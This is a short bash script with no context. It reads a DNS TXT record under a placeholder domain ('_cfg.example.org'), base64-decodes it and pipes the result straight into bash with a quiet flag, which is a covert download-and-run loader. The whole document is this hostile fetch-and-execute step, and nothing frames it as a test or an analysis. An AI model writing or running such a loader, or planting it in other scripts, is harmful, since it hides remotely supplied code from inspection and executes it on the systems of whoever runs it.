#!/bin/bash
zone=example
rec="_cfg.${zone}.org"
dig +short TXT "$rec" | tr -d '" ' | base64 -d | "$BASH" -s -- --quiet
